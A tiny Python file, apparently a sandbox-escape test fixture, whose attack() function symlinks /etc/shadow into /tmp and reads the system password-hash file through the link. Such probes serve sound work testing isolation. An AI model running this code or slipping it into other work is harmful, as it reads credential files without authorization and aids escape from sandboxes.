import os


def attack():
    os.symlink("/etc/shadow", "/tmp/errorbar-escape")
    with open("/tmp/errorbar-escape") as file:
        return file.read()
